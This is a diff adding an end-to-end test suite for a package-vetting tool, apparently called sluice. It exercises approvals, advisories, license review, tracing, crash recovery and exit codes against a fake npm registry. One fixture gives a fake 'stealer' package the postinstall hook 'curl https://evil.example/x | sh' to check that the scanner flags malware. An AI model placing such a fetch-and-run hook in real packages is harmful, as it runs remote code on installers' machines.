@@ -1,0 +1,269 @@
+import { execFile } from 'node:child_process';
+import { mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { promisify } from 'node:util';
+import { startStack, stackServices, stateFolder, type Stack } from '@sluice/embedded';
+import type { StoredSpan } from '@sluice/runtime';
+import { fakeNpmRegistry, findRepositoryRoot, packageLock, waitFor } from '@sluice/testkit';
+import { afterAll, beforeAll, expect, it } from 'vitest';
+
+/** The whole stack, each service its own process, against a registry that only this file knows. */
+const registry = await fakeNpmRegistry();
+const run = promisify(execFile);
+const cli = path.join(findRepositoryRoot(), 'cli/dist/main.js');
+const folder = await mkdtemp(path.join(tmpdir(), 'sluice-e2e-'));
+let stack: Stack;
+
+const publish = (
+  name: string,
+  manifest: Record<string, unknown> = { license: 'MIT' },
+  files?: Record<string, string>,
+) =>
+  registry.publish({
+    name,
+    version: '1.0.0',
+    manifest,
+    publishedAt: '2024-01-01T00:00:00.000Z',
+    ...(files ? { files } : {}),
+  });
+
+beforeAll(async () => {
+  const env = {
+    PATH: process.env['PATH'],
+    NPM_REGISTRY_URL: registry.url,
+    ADVISORIES_URL: 'off',
+    SLUICE_NATS_SERVER: process.env['SLUICE_NATS_SERVER'],
+  };
+  stack = await startStack({ stateFolder: folder, services: stackServices, env, split: true });
+  // One advisory, so that evidence is complete and verdicts can be clean.
+  const advisories = path.join(folder, 'advisories');
+  await run('mkdir', ['-p', advisories]);
+  const affected = [
+    {
+      package: { ecosystem: 'npm', name: 'vulnerable' },
+      ranges: [{ type: 'SEMVER', events: [{ introduced: '0' }, { fixed: '1.0.1' }] }],
+    },
+  ];
+  const record = {
+    id: 'TEST-1',
+    modified: '2024-01-01T00:00:00Z',
+    summary: 'A hole',
+    affected,
+    database_specific: { severity: 'CRITICAL' },
+  };
+  await writeFile(path.join(advisories, 'TEST-1.json'), JSON.stringify(record));
+  await sluice(['advisories', 'import', advisories], { DATABASE_URL: stack.info.databaseUrl });
+}, 120_000);
+afterAll(async () => {
+  await stack?.stop();
+  await rm(folder, { recursive: true, force: true });
+});
+
+/** Runs the CLI as its own process. @returns what it printed and its exit code. */
+async function sluice(
+  args: string[],
+  env: Record<string, string> = {},
+): Promise<{ code: number; out: string; err: string }> {
+  try {
+    const { stdout, stderr } = await run(process.execPath, [cli, ...args], {
+      env: { PATH: process.env['PATH'], ...env },
+    });
+    return { code: 0, out: stdout, err: stderr };
+  } catch (error) {
+    const { code, stdout, stderr } = error as { code: number; stdout: string; stderr: string };
+    return { code, out: stdout, err: stderr };
+  }
+}
+
+async function lockfile(
+  name: string,
+  packages: string[],
+  pins: Record<string, string> = {},
+): Promise<string> {
+  const file = path.join(folder, `${name}.json`);
+  const locked = packages.map((one) => ({
+    name: one,
+    version: '1.0.0',
+    ...(pins[one] ? { integrity: pins[one] } : {}),
+  }));
+  await writeFile(file, packageLock(3, locked));
+  return file;
+}
+
+const vet = (file: string, ...options: string[]) =>
+  sluice(['vet', file, '--server', stack.info.apiUrl, ...options]);
+
+interface PackageView {
+  traceId: string;
+  outcome: string;
+  decision: { state: string } | null;
+  verdict: { reasons: { code: string }[] };
+  timeline: { type: string; sequence: number; traceId: string }[];
+}
+
+async function getPackage(name: string): Promise<PackageView> {
+  const response = await fetch(`${stack.info.apiUrl}/v1/packages/pkg:npm/${name}@1.0.0`);
+  expect(response.status).toBe(200);
+  return (await response.json()) as PackageView;
+}
+
+it('vets a clean lockfile: exit 0, everything approved, every entry accounted for', async () => {
+  ['clean-a', 'clean-b', 'clean-c'].forEach((name) => publish(name));
+  const { code, out } = await vet(await lockfile('clean', ['clean-a', 'clean-b', 'clean-c']), '--json');
+  const { request, items } = JSON.parse(out) as {
+    request: { counts: object; entryCount: number };
+    items: { outcome: string }[];
+  };
+  expect(request).toMatchObject({ counts: { approve: 3 }, entryCount: 3 });
+  expect(items.map((item) => item.outcome)).toEqual(['approve', 'approve', 'approve']);
+  expect(code).toBe(0);
+}, 60_000);
+
+it('says of each kind of trouble what it is: exit 1', async () => {
+  publish('vulnerable');
+  publish('copyleft', { license: 'AGPL-3.0-only' });
+  publish('pinned');
+  publish('stealer', { license: 'MIT', scripts: { postinstall: 'curl https://evil.example/x | sh' } });
+  const packages = ['vulnerable', 'copyleft', 'pinned', 'stealer', 'nowhere'];
+  const wrongPin = `sha512-${Buffer.alloc(64, 1).toString('base64')}`;
+  const { code, out } = await vet(await lockfile('trouble', packages, { pinned: wrongPin }));
+  expect(code).toBe(1);
+  expect(out).toMatch(/vulnerable@1\.0\.0\s+review\s+advisory\.critical/);
+  expect(out).toMatch(/copyleft@1\.0\.0\s+review\s+license\.review/);
+  expect(out).toMatch(/pinned@1\.0\.0\s+reject\s+integrity\.mismatch/);
+  expect(out).toMatch(/stealer@1\.0\.0\s+(review|reject)\s+malware\./);
+  expect(out).toMatch(/nowhere@1\.0\.0\s+failed\s+registry\.version-not-found/);
+}, 60_000);
+
+it('lets a person approve what waits for a review, and remembers it', async () => {
+  const decide = await sluice([
+    'approve',
+    'pkg:npm/copyleft@1.0.0',
+    '--reason',
+    'build time only',
+    '--by',
+    'mira',
+    '--server',
+    stack.info.apiUrl,
+  ]);
+  expect(decide).toMatchObject({ code: 0 });
+  await waitFor(async () => (await getPackage('copyleft')).decision?.state === 'approved');
+  expect((await vet(await lockfile('again', ['copyleft']))).code).toBe(0);
+});
+
+it('follows one package through all services in one trace, with the right parents', async () => {
+  publish('traced');
+  await vet(await lockfile('traced', ['traced']));
+  const { traceId, timeline } = await getPackage('traced');
+  expect(new Set(timeline.map((entry) => entry.traceId))).toEqual(new Set([traceId]));
+  const root = 'aggregator: assess package';
+  const chain = [
+    ['license: license process', root],
+    ['license: publish pkg.licensed.interactive', 'license: license process'],
+    ['downloader: downloader process', 'license: publish pkg.licensed.interactive'],
+    ['downloader: publish pkg.downloaded.interactive', 'downloader: downloader process'],
+    ['scanner: scanner process', 'downloader: publish pkg.downloaded.interactive'],
+    ['scanner: publish pkg.scanned.interactive', 'scanner: scanner process'],
+    ['aggregator: aggregator process', 'scanner: publish pkg.scanned.interactive'],
+  ];
+  await waitFor(
+    async () => {
+      const parents = await parentsByName(traceId);
+      return chain.every(([name, parent]) =>
+        parents.some((edge) => edge.name === name && edge.parent === parent),
+      );
+    },
+    { what: 'the spans of all services' },
+  ).catch(async () => {
+    expect(await parentsByName(traceId)).toEqual(
+      expect.arrayContaining(chain.map(([name, parent]) => ({ name, parent }))),
+    );
+  });
+}, 60_000);
+
+async function parentsByName(traceId: string): Promise<{ name: string; parent: string | null }[]> {
+  const spansFolder = stateFolder(folder).spans;
+  const texts = await Promise.all(
+    (await readdir(spansFolder)).map((file) => readFile(path.join(spansFolder, file), 'utf8')),
+  );
+  const spans = texts
+    .join('')
+    .split('\n')
+    .filter((line) => line.includes(traceId))
+    .map((line) => JSON.parse(line) as StoredSpan)
+    .filter((span) => span.traceId === traceId);
+  const nameOf = (span: StoredSpan) => `${span.service}: ${span.name}`;
+  const byId = new Map(spans.map((span) => [span.spanId, nameOf(span)]));
+  return spans.map((span) => ({
+    name: nameOf(span),
+    parent: span.parentSpanId && (byId.get(span.parentSpanId) ?? null),
+  }));
+}
+
+it('loses nothing when every service is killed in mid-run', async () => {
+  const names = Array.from({ length: 60 }, (_, index) => `killed-${index}`);
+  for (const name of names) {
+    const { metadataPath } = publish(name);
+    registry.fail(metadataPath, { delayMs: 300, times: 1 });
+  }
+  const file = await lockfile('killed', names);
+  const vetting = vet(file, '--json', '--timeout', '90');
+  for (const name of ['scanner', 'license', 'downloader', 'aggregator', 'projector']) {
+    await waitFor(async () => (await services()).some((service) => service.name === name), {
+      what: `${name} to run`,
+    });
+    const service = (await services()).find((one) => one.name === name)!;
+    process.kill(service.pid, 'SIGKILL');
+  }
+  const { out } = await vetting;
+  const { items } = JSON.parse(out) as { items: { purl: string; outcome: string }[] };
+  expect(items.map((item) => item.outcome)).toEqual(names.map(() => 'approve'));
+}, 120_000);
+
+async function services(): Promise<{ name: string; pid: number }[]> {
+  const records = JSON.parse(await readFile(stateFolder(folder).childrenFile, 'utf8')) as {
+    name: string;
+    pid: number;
+  }[];
+  return records.filter(({ name }) => name in stack.info.health);
+}
+
+it('assesses a package once for requests that come at the same time', async () => {
+  const { metadataPath, tarballPath } = publish('popular');
+  const file = await lockfile('popular', ['popular']);
+  const results = await Promise.all(Array.from({ length: 5 }, () => vet(file)));
+  expect(results.map(({ code }) => code)).toEqual([0, 0, 0, 0, 0]);
+  expect(registry.requests(metadataPath)).toBe(1);
+  expect(registry.requests(tarballPath)).toBe(1);
+}, 60_000);
+
+it('has read models that are exactly what the events say', async () => {
+  const { natsUrl: NATS_URL, databaseUrl: DATABASE_URL, artifactsFolder: ARTIFACTS_DIR } = stack.info;
+  const { code, out, err } = await sluice(['projection', 'verify'], {
+    NATS_URL,
+    DATABASE_URL,
+    ARTIFACTS_DIR,
+  });
+  expect({ code, out, err }).toMatchObject({
+    code: 0,
+    out: expect.stringContaining('exactly what the events say'),
+  });
+}, 60_000);
+
+it('tells usage errors, timeouts and server trouble apart by exit code', async () => {
+  expect((await vet('/nonexistent/package-lock.json')).code).toBe(2);
+  expect((await sluice(['vet', 'x', '--unknown'])).code).toBe(2);
+  const broken = path.join(folder, 'broken.json');
+  await writeFile(broken, '{"name":"a","version":"1.0.0"}');
+  expect(await vet(broken)).toMatchObject({
+    code: 2,
+    err: expect.stringContaining('lockfile.unknown-format'),
+  });
+  const { metadataPath } = publish('endless');
+  registry.fail(metadataPath, { hang: true });
+  const late = await vet(await lockfile('endless', ['endless']), '--timeout', '1');
+  expect(late).toMatchObject({ code: 3, err: expect.stringContaining('status') });
+  registry.fail(metadataPath, null);
+  expect((await sluice(['vet', broken, '--server', 'http://127.0.0.1:9'])).code).toBe(4);
+}, 60_000);
